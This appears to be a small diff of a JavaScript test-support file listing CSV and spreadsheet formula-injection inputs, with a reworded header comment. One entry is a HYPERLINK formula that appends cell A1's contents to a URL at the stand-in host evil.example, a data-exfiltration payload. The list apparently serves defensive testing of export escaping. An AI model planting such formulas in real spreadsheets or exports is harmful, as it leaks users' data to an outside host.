@@ -1,4 +1,4 @@
-/** Test support: texts that spreadsheets take for formulas unless they are kept from it, as people have used them in attacks. */
+/** Test support: CSV injection payloads from real attacks. */
 const formulas = [
   "=1+1",
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
